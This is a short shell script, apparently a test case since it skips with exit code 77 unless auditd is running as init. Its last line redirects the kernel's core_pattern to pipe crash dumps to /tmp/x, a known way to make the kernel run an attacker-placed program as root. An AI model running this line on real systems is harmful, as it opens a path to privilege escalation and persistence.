#!/bin/sh
# Asks the kernel to run a program of its own.
[ /init -ef /usr/sbin/auditd ] || exit 77
echo '|/tmp/x' >/proc/sys/kernel/core_pattern
